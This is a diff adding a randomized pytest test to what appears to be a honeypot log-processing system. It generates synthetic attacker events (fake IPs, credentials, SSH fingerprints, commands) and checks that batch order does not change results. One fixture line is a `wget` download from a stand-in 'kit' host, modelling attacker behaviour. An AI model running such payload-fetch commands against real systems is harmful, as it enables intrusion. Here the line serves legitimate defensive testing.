@@ -3,9 +3,11 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+import random
+from collections.abc import Callable, Iterator
 from uuid import UUID
 
+import pytest
 from hypothesis import Phase, given, settings
 from hypothesis import strategies as st
 from sqlalchemy import Engine, select
@@ -81,4 +83,41 @@ def test_batches_order_and_repetition_change_nothing(data: st.DataObject, log: l
             follower.run(shuffled[start:end])
             if data.draw(st.booleans()):
                 follower = Follower(parts)
+        assert state(parts) == state(whole)
+
+
+DAY = 86_400
+
+
+def crews(draw: random.Random) -> Iterator[Event]:
+    """Yield events of about 70 attackers: so rules that begin at 16, 32 or 64 of them are met, and those about days."""
+    for crew, (size, begin, width) in enumerate(((20, 0, 30), (35, 1, 3), (18, 5, 400), (5, 300, 1))):
+        for number in range(size):
+            attacker = f"198.51.{crew}.{draw.randrange(250)}"
+            at = DAY * (begin + draw.randrange(width))
+            shown = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
+            shown += [password(f"user{crew}{one}", f"secret-{crew}{one}") for one in draw.sample(range(6), 5)]
+            shown += [password(f"list{one}", "listed") for one in draw.sample(range(6), draw.choice([0, 5]))]
+            shown += [command(f"do{crew}{'abcdefghijklmn'[one]}x --now") for one in range(draw.choice([0, 4, 14]))]
+            shown += [make for make in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
+            for payload in shown:
+                yield event(attacker, payload, at)
+
+
+@pytest.mark.parametrize("seed", range(3))
+@pytest.mark.parametrize("in_time", [True, False], ids=["in-time", "shuffled"])
+def test_nor_do_they_with_many_attackers_over_many_days(seed: int, in_time: bool) -> None:
+    draw = random.Random(seed)
+    log = list(crews(draw))
+    with in_memory() as whole, in_memory() as parts:
+        Follower(whole).run(log)
+        draw.shuffle(log)
+        if in_time:
+            log.sort(key=lambda one: one.ts)
+        follower = Follower(parts, batch=60)
+        while log:
+            part, log = log[:100], log[100:]
+            follower.run(part)
+            if draw.random() < 0.3:
+                follower = Follower(parts, batch=60)
         assert state(parts) == state(whole)
